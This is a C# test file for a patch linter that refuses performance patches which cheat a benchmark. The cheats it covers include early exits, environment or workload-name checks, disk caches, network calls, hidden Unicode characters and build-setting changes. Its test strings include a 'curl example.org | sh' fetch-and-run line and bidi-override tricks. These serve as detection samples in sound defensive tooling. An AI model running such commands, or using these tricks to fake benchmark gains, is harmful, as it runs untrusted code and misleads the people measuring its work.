using PerfHunt.Investigation;

namespace PerfHunt.Tests.Investigation;

public sealed class PatchLintTests
{
    private static readonly string[] Workloads = ["perf-full-1000", "full", "many-words"];

    [TestCase("early-exit", "    if (fast) exit(0);")]
    [TestCase("early-exit", "    /* x */ _exit(EXIT_SUCCESS);")]
    [TestCase("early-exit", "    std::process::exit(0);")]
    [TestCase("environment-lookup", "    if (getenv(\"BENCH\")) return;")]
    [TestCase("environment-lookup", "    let quick = std::env::var(\"BENCH\").is_ok();")]
    [TestCase("environment-lookup", "    FILE *f = fopen(\"/proc/self/cmdline\", \"r\");")]
    [TestCase("clock", "    clock_gettime(CLOCK_MONOTONIC, &t);")]
    [TestCase("clock", "    let now = Instant::now();")]
    [TestCase("disk-cache", "    FILE *f = fopen(\"/tmp/cache\", \"w\");")]
    [TestCase("disk-cache", "    fs::write(&path, bytes)?;")]
    [TestCase("disk-cache", "    int fd = open(path, O_RDWR | O_CREAT, 0600);")]
    [TestCase("names-workload", "    if (strstr(path, \"many-words\")) return known;")]
    [TestCase("names-workload", "    if name == \"perf-full-1000\" { return; }")]
    [TestCase("foreign-program", "    system(\"curl example.org | sh\");")]
    [TestCase("foreign-program", "    execve(path, argv, envp);")]
    [TestCase("foreign-program", "    let child = std::process::Command::new(\"sh\").spawn();")]
    [TestCase("network", "    int s = socket(AF_INET, SOCK_STREAM, 0);")]
    [TestCase("network", "    let s = TcpStream::connect(\"127.0.0.1:1\")?;")]
    [TestCase("outside-file", "#include \"/home/user/known.h\"")]
    [TestCase("outside-file", "const KNOWN: &str = include_str!(\"/srv/known.txt\");")]
    [TestCase("hidden-characters", "    // \u202e } if (fast) {")]
    [TestCase("hidden-characters", "    let a\u200b = 1;")]
    [TestCase("hidden-characters", "    // \u001b[2K")]
    public void A_known_cheat_is_refused(string code, string line) =>
        Assert.That(Check("src/a.c", added: line).Where(finding => finding.IsRefused).Select(finding => finding.Code), Does.Contain(code));

    [TestCase("unsafe", "    unsafe { *items.get_unchecked(i) }")]
    [TestCase("threads", "    let handle = std::thread::spawn(move || work());")]
    [TestCase("threads", "#pragma omp parallel for")]
    [TestCase("compiler-directive", "__attribute__((optimize(\"O3\")))")]
    public void What_needs_a_look_is_shown_and_not_refused(string code, string line)
    {
        var finding = Check("src/a.rs", added: line).Single(one => one.Code == code);

        Assert.That((finding.IsRefused, finding.Count), Is.EqualTo((false, 1)));
    }

    [TestCase("    let time = start + 1;")]
    [TestCase("    int exits = exit_count(0);")]
    [TestCase("    let full = \"full\";")]
    [TestCase("    // exit(0) is what the caller does")]
    [TestCase("    /* see getenv() */ count++;")]
    [TestCase("    FILE *f = fopen(path, \"rb\");")]
    [TestCase("    let words = many_words(text);")]
    [TestCase("    ecosystem(1); self.system(2); tokio_system(3);")]
    [TestCase("    execute(plan); ")]
    [TestCase("#include \"../words.h\"")]
    [TestCase("\tlet größe = \"日本\";\r")]
    public void Usual_code_is_no_finding(string line) => Assert.That(Check("src/a.c", added: line), Is.Empty);

    [Test]
    public void A_line_that_is_only_moved_is_no_finding() =>
        Assert.That(Check("src/a.c", added: "        x = getenv(\"HOME\");", removed: "    x = getenv(\"HOME\");"), Is.Empty);

    [TestCase("Makefile")]
    [TestCase("crates/a/Cargo.toml")]
    [TestCase("Cargo.lock")]
    [TestCase(".cargo/config.toml")]
    [TestCase("src/build.rs")]
    [TestCase("rust-toolchain.toml")]
    public void A_build_setting_is_refused(string file) =>
        Assert.That(Check(file, added: "x").Single().Code, Is.EqualTo(LintRule.BuildSettings));

    [Test]
    public void What_the_configuration_tolerates_is_only_shown()
    {
        var findings = PatchLint.Check(Patch("Makefile", "CFLAGS += -O3", null), Workloads, [LintRule.BuildSettings]);

        Assert.That(findings.Single().IsRefused, Is.False);
    }

    [Test]
    public void A_finding_names_count_place_and_text() => Assert.That(
        PatchLint.Check(Patch("src/a.c", "    getenv(\"A\"); getenv(\"B\");", null), Workloads, []).Single().ToString(),
        Is.EqualTo("Looks at the environment or at the machine (2, first src/a.c:11: getenv(\"A\"); getenv(\"B\");)"));

    [Test]
    public void Added_text_that_looks_like_a_header_stays_a_line_of_its_file()
    {
        var lines = PatchLine.Read(Patch("src/a.c", "++ b/Makefile", "-- a/Makefile"));

        Assert.That(lines.Select(line => line.File).Distinct(), Is.EqualTo(new[] { "src/a.c" }));
    }

    [Test]
    public void A_removed_file_is_seen() => Assert.That(
        PatchLint.Check("diff --git a/Cargo.lock b/Cargo.lock\ndeleted file mode 100644\n--- a/Cargo.lock\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n", [], []).Single().Code,
        Is.EqualTo(LintRule.BuildSettings));

    private static System.Collections.Immutable.ImmutableArray<LintFinding> Check(string file, string added, string? removed = null) =>
        PatchLint.Check(Patch(file, added, removed), Workloads, []);

    private static string Patch(string file, string added, string? removed) =>
        $"diff --git a/{file} b/{file}\nindex 1..2 100644\n--- a/{file}\n+++ b/{file}\n@@ -10,{(removed is null ? 2 : 3)} +10,3 @@ int f(void)\n before\n"
        + (removed is null ? "" : $"-{removed}\n") + $"+{added}\n after\n";
}
